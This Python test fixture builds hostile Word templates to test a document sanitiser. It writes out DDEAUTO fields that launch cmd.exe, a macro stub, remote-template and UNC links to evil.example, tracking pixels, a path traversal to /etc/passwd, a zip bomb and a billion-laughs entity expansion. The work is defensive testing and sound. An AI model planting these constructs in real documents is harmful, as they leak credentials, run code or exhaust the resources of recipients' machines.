"""Hostile Word templates, built at test time from the bundled reference template.

Each builder writes one `template-*.docx` into a folder and returns its path.
Nothing here is committed as a binary: a zip bomb is streamed into its zip in
chunks, so building it takes bounded memory too.
"""

from __future__ import annotations

import re
import zipfile
import zlib
from pathlib import Path

from paths import TEMPLATES

REFERENCE = TEMPLATES / "plan.docx"

R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
REL = R  # relationship types live under the same base
DOCX_MAIN_TYPE = b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
GIB = 1 << 30


def repack(out: Path, *, replace=None, add=None, types=None, drop=()) -> Path:
    """The reference template with parts replaced (name → function of the old bytes), added and dropped."""
    replace, add = replace or {}, add or {}
    with zipfile.ZipFile(REFERENCE) as source, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as copy:
        for info in source.infolist():
            if info.filename in drop:
                continue
            body = source.read(info)
            if info.filename == "[Content_Types].xml" and types:
                body = types(body)
            if info.filename in replace:
                body = replace.pop(info.filename)(body)
            copy.writestr(info.filename, body)
        for name, make in replace.items():  # a part the reference lacks (a .rels file, say)
            copy.writestr(name, make(b""))
        for name, body in add.items():
            copy.writestr(name, body)
    return out


def rels(*entries: str) -> bytes:
    return (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        + "".join(entries)
        + "</Relationships>"
    ).encode()


def rel(rid: str, kind: str, target: str, external: bool = False, base: str = REL) -> str:
    mode = ' TargetMode="External"' if external else ""
    return f'<Relationship Id="{rid}" Type="{base}/{kind}" Target="{target}"{mode}/>'


def add_rels(*entries: str):
    """A function adding relationships to a .rels part (or making one)."""

    def edit(body: bytes) -> bytes:
        if not body:
            return rels(*entries)
        return body.replace(b"</Relationships>", "".join(entries).encode() + b"</Relationships>")

    return edit


def in_footer(xml: str):
    """A function adding a paragraph holding `xml` (runs) to the footer."""

    def edit(body: bytes) -> bytes:
        return body.replace(b"</w:ftr>", f"<w:p>{xml}</w:p></w:ftr>".encode())

    return edit


def add_type(fragment: str):
    def edit(body: bytes) -> bytes:
        return body.replace(b"</Types>", fragment.encode() + b"</Types>")

    return edit


def sect_pr(pattern: str, replacement: str):
    def edit(body: bytes) -> bytes:
        new, count = re.subn(pattern.encode(), replacement.encode(), body)
        assert count == 1, pattern
        return new

    return edit


# -- the cases -------------------------------------------------------------------------


def attached_template(folder: Path) -> Path:
    """settings.xml attaches a remote template (Word fetches it on open: a tracking or NTLM leak)
    and asks for its styles to be copied in."""
    return repack(
        folder / "template-attached.docx",
        replace={
            "word/settings.xml": lambda b: b.replace(b"<w:zoom ", b'<w:attachedTemplate r:id="rIdT"/><w:linkStyles/><w:zoom '),
            "word/_rels/settings.xml.rels": add_rels(
                rel("rIdT", "attachedTemplate", "https://evil.example/school.dotm", external=True)
            ),
        },
    )


def macros(folder: Path) -> Path:
    """A macro project, as a .docm carries it, in a file named .docx."""
    return repack(
        folder / "template-macros.docx",
        replace={
            "word/_rels/document.xml.rels": add_rels(
                rel("rIdV", "vbaProject", "vbaProject.bin", base="http://schemas.microsoft.com/office/2006/relationships")
            ),
            "word/_rels/vbaProject.bin.rels": add_rels(
                rel("rIdD", "wordVbaData", "vbaData.xml", base="http://schemas.microsoft.com/office/2006/relationships")
            ),
        },
        types=lambda b: add_type(
            '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>'
            '<Override PartName="/word/vbaData.xml" ContentType="application/vnd.ms-word.vbaData+xml"/>'
        )(b.replace(DOCX_MAIN_TYPE, b"application/vnd.ms-word.document.macroEnabled.main+xml")),
        add={"word/vbaProject.bin": b"\xd0\xcf\x11\xe0AutoOpen Shell(calc)", "word/vbaData.xml": b"<wne:vbaSuppData/>"},
    )


def macro_template(folder: Path) -> Path:
    """A .dotm main part (macro-enabled template) behind a .dotx name."""
    return repack(
        folder / "template-dotm.dotx",
        types=lambda b: b.replace(DOCX_MAIN_TYPE, b"application/vnd.ms-word.template.macroEnabledTemplate.main+xml"),
    )


def activex(folder: Path) -> Path:
    """An ActiveX control in the footer."""
    control = f'<w:r><w:object><w:control r:id="rIdX" w:name="Evil" xmlns:r="{R}"/></w:object></w:r>'
    return repack(
        folder / "template-activex.docx",
        replace={
            "word/footer1.xml": in_footer(control),
            "word/_rels/footer1.xml.rels": add_rels(rel("rIdX", "control", "activeX/activeX1.xml")),
        },
        add={
            "word/activeX/activeX1.xml": b'<ax:ocx xmlns:ax="http://schemas.microsoft.com/office/2006/activeX" '
            b'ax:classid="{8BD21D40-EC42-11CE-9E0D-00AA006002F3}"/>',
            "word/activeX/activeX1.bin": b"\x00" * 64,
        },
        types=add_type(
            '<Override PartName="/word/activeX/activeX1.xml" ContentType="application/vnd.ms-office.activeX+xml"/>'
        ),
    )


def ole_link(folder: Path) -> Path:
    """An embedded OLE object, and an OLE object linked to a file share, in the footer."""
    objects = (
        '<w:r><w:object><o:OLEObject xmlns:o="urn:schemas-microsoft-com:office:office" '
        f'xmlns:r="{R}" Type="Embed" ProgID="Excel.Sheet.12" r:id="rIdO1"/></w:object></w:r>'
        '<w:r><w:object><o:OLEObject xmlns:o="urn:schemas-microsoft-com:office:office" '
        f'xmlns:r="{R}" Type="Link" ProgID="Excel.Sheet.12" r:id="rIdO2" UpdateMode="Always"/></w:object></w:r>'
    )
    return repack(
        folder / "template-ole.docx",
        replace={
            "word/footer1.xml": in_footer(objects),
            "word/_rels/footer1.xml.rels": add_rels(
                rel("rIdO1", "oleObject", "embeddings/oleObject1.bin"),
                rel("rIdO2", "oleObject", "file:///\\\\evil.example\\share\\marks.xlsx", external=True),
            ),
        },
        add={"word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0 ole"},
        types=add_type('<Default Extension="bin" ContentType="application/vnd.openxmlformats-officedocument.oleObject"/>'),
    )


def _png() -> bytes:
    """A valid 1×1 grey PNG: the school crest."""
    def chunk(kind: bytes, data: bytes) -> bytes:
        return len(data).to_bytes(4, "big") + kind + data + zlib.crc32(kind + data).to_bytes(4, "big")

    header = (1).to_bytes(4, "big") * 2 + bytes([8, 0, 0, 0, 0])  # 8-bit greyscale
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", zlib.compress(b"\x00\x80")) + chunk(b"IEND", b"")


PNG = _png()


def _picture(attribute: str, rid: str) -> str:
    return (
        '<w:r><w:drawing><wp:inline xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing">'
        '<wp:extent cx="9525" cy="9525"/><wp:docPr id="7" name="p"/>'
        '<a:graphic xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main">'
        '<a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/picture">'
        '<pic:pic xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture">'
        '<pic:nvPicPr><pic:cNvPr id="7" name="p"/><pic:cNvPicPr/></pic:nvPicPr>'
        f'<pic:blipFill><a:blip xmlns:r="{R}" r:{attribute}="{rid}"/></pic:blipFill>'
        '<pic:spPr/></pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r>'
    )


def images(folder: Path) -> Path:
    """The footer shows a school crest (kept) and a remote tracking image (dropped)."""
    return repack(
        folder / "template-images.docx",
        replace={
            "word/footer1.xml": in_footer(_picture("embed", "rIdCrest") + _picture("link", "rIdTrack")),
            "word/_rels/footer1.xml.rels": add_rels(
                rel("rIdCrest", "image", "media/crest.png"),
                rel("rIdTrack", "image", "https://evil.example/pixel.png?student=1", external=True),
            ),
        },
        add={"word/media/crest.png": PNG},
        types=add_type('<Default Extension="png" ContentType="image/png"/>'),
    )


def hyperlinks(folder: Path) -> Path:
    """A web link (kept) and a file-share link (unlinked, its text kept) in the footer."""
    links = (
        f'<w:hyperlink xmlns:r="{R}" r:id="rIdWeb"><w:r><w:t>school website</w:t></w:r></w:hyperlink>'
        f'<w:hyperlink xmlns:r="{R}" r:id="rIdShare"><w:r><w:t>marks sheet</w:t></w:r></w:hyperlink>'
    )
    return repack(
        folder / "template-hyperlinks.docx",
        replace={
            "word/footer1.xml": in_footer(links),
            "word/_rels/footer1.xml.rels": add_rels(
                rel("rIdWeb", "hyperlink", "https://school.example/history", external=True),
                rel("rIdShare", "hyperlink", "file://evil.example/share/marks.xlsx", external=True),
            ),
        },
    )


def customizations(folder: Path) -> Path:
    """Key bindings to macros (customizations.xml), a glossary, custom XML and an external chunk."""
    return repack(
        folder / "template-customizations.docx",
        replace={
            "word/_rels/document.xml.rels": add_rels(
                rel("rIdK", "keyMapCustomizations", "customizations.xml",
                    base="http://schemas.microsoft.com/office/2006/relationships"),
                rel("rIdA", "aFChunk", "https://evil.example/chunk.html", external=True),
                rel("rIdEsc", "header", "../../../etc/passwd"),
            ),
        },  # fmt: skip
        add={
            "word/customizations.xml": b'<wne:tcg xmlns:wne="http://schemas.microsoft.com/office/word/2006/wordml">'
            b'<wne:keymaps><wne:keymap wne:kcmPrimary="0441"><wne:macro wne:macroName="EVIL"/></wne:keymap>'
            b"</wne:keymaps></wne:tcg>",
        },
        types=add_type(
            '<Override PartName="/word/customizations.xml" ContentType="application/vnd.ms-word.keyMapCustomizations+xml"/>'
        ),
    )


def mail_merge(folder: Path) -> Path:
    """A mail merge that queries an external data source when the file opens."""
    merge = '<w:mailMerge><w:mainDocumentType w:val="formLetters"/><w:dataSource r:id="rIdM"/></w:mailMerge>'
    return repack(
        folder / "template-mailmerge.docx",
        replace={
            "word/settings.xml": lambda b: b.replace(b"<w:defaultTabStop ", merge.encode() + b"<w:defaultTabStop "),
            "word/_rels/settings.xml.rels": add_rels(
                rel("rIdM", "mailMergeSource", "file:///C:/evil.odc", external=True)
            ),
        },
    )


def _complex_field(*instructions: str, result: str = "shown") -> str:
    codes = "".join(f'<w:r><w:instrText xml:space="preserve">{text}</w:instrText></w:r>' for text in instructions)
    return (
        f'<w:r><w:fldChar w:fldCharType="begin"/></w:r>{codes}<w:r><w:fldChar w:fldCharType="separate"/></w:r>'
        f'<w:r><w:t>{result}</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>'
    )


def active_fields(folder: Path) -> Path:
    """Fields that run a program or fetch a file when Word updates them, hidden in the footer:
    a simple DDEAUTO, an INCLUDEPICTURE split over runs, and a code spelled by a nested field."""
    fields = (
        '<w:fldSimple w:instr=" DDEAUTO c:\\windows\\system32\\cmd.exe &quot;/k calc&quot; ">'
        "<w:r><w:t>simple-result</w:t></w:r></w:fldSimple>"
        + _complex_field(" INCLUDEPIC", 'TURE "https://evil.example/p.png" \\d ', result="picture-result")
        + '<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        + _complex_field(' QUOTE "DDEAUTO" ', result="DDEAUTO")
        + '<w:r><w:instrText xml:space="preserve"> cmd "/c calc" </w:instrText></w:r>'
        + '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>nested-result</w:t></w:r>'
        + '<w:r><w:fldChar w:fldCharType="end"/></w:r>'
        + _complex_field(" DATE \\@ &quot;d MMMM yyyy&quot; ", result="date-result")
    )
    return repack(folder / "template-fields.docx", replace={"word/footer1.xml": in_footer(fields)})


def bad_page_size(folder: Path) -> Path:
    return repack(
        folder / "template-page-size.docx",
        replace={"word/document.xml": sect_pr(r'<w:pgSz [^>]*/>', '<w:pgSz w:w="abc" w:h="1e999mm" w:orient="sideways"/>')},
    )


def bad_margins(folder: Path) -> Path:
    return repack(
        folder / "template-margins.docx",
        replace={
            "word/document.xml": sect_pr(
                r"<w:pgMar [^>]*/>",
                '<w:pgMar w:top="" w:right="-" w:bottom="99999999999999999999" w:left="NaNmm" '
                'w:header="1.5.5" w:footer="inf" w:gutter="-5"/>',
            )
        },
    )


def bad_styles(folder: Path) -> Path:
    """Styles with no id, an unknown type, a nonsense default flag and a bad font size."""
    return repack(
        folder / "template-styles.docx",
        replace={
            "word/styles.xml": lambda b: b.replace(b'w:styleId="Heading1"', b"", 1)
            .replace(b'w:styleId="TableGrid"', b'w:styleId="TableGrid" w:default="maybe"', 1)
            .replace(b'w:type="paragraph" w:styleId="Title"', b'w:type="bogus" w:styleId="Title"', 1)
            .replace(b"<w:sz w:val=", b'<w:sz w:val="abc" w:x=', 1)
        },
    )


def zip_bomb(folder: Path, size: int = GIB) -> Path:
    """A part of `size` zeros, deflated to about a two-hundredth, streamed in so that building stays small."""
    out = repack(folder / "template-bomb.docx")
    chunk = bytes(1 << 20)
    # The fastest level: zeros still pack over 200 to 1, and building takes about a second.
    with zipfile.ZipFile(out, "a", zipfile.ZIP_DEFLATED, compresslevel=1) as package:
        with package.open("word/x.xml", "w", force_zip64=True) as part:
            for _ in range(size // len(chunk)):
                part.write(chunk)
    return out


def dense_part(folder: Path) -> Path:
    """A part under the size limit but packed 1000 to 1: refused by the ratio, as it inflates."""
    return repack(
        folder / "template-dense.docx",
        replace={"word/styles.xml": lambda b: b.replace(b"</w:styles>", b"<!--" + b" " * (24 << 20) + b"--></w:styles>")},
    )


def many_parts(folder: Path, count: int = 5000) -> Path:
    """More parts than any Word document has: the list alone could fill memory."""
    return repack(folder / "template-many-parts.docx", add={f"word/junk/{i}.xml": b"" for i in range(count)})


def long_names(folder: Path, count: int = 600) -> Path:
    """Few parts, but names so long that the list of parts alone is over a megabyte."""
    return repack(folder / "template-long-names.docx", add={f"word/{i:04}{'n' * 2000}.xml": b"" for i in range(count)})


def not_a_zip(folder: Path) -> Path:
    out = folder / "template-not-a-zip.docx"
    out.write_bytes(b"PK\x03\x04 but then nothing a zip reader can use" * 10)
    return out


def text_file(folder: Path) -> Path:
    out = folder / "template-text.docx"
    out.write_text("Dear students, please use this template for your essays.\n", encoding="utf-8")
    return out


def entity_expansion(folder: Path) -> Path:
    """A 'billion laughs' DTD in the settings, which the cleaner parses."""
    laughs = (
        b'<?xml version="1.0"?><!DOCTYPE w:settings [<!ENTITY a "aaaaaaaaaa">'
        + b"".join(b'<!ENTITY %c "&%c;&%c;&%c;&%c;&%c;&%c;&%c;&%c;&%c;&%c;">' % ((c,) + (c - 1,) * 10) for c in range(98, 108))
        + b"]>"
    )
    return repack(
        folder / "template-entities.docx",
        replace={"word/settings.xml": lambda b: laughs + b.split(b"?>", 1)[1].replace(b"<w:zoom ", b"<w:zoom w:x='&k;' ", 1)},
    )


def vml_urls(folder: Path) -> Path:
    """A VML picture in the footer naming a remote image and a file share with no relationship at all."""
    shape = (
        '<w:r><w:pict><v:shape xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office"'
        ' style="width:9pt;height:9pt"><v:imagedata src="https://evil.example/pixel.png"'
        ' o:href="\\\\evil.example\\share\\crest.png" o:title="crest"/></v:shape></w:pict></w:r>'
    )
    return repack(folder / "template-vml.docx", replace={"word/footer1.xml": in_footer(shape)})


SAFE = [attached_template, macros, macro_template, activex, ole_link, images, hyperlinks, customizations, mail_merge,
        vml_urls, active_fields, bad_page_size, bad_margins, bad_styles]  # fmt: skip
REFUSED = [dense_part, many_parts, long_names, not_a_zip, text_file, entity_expansion]
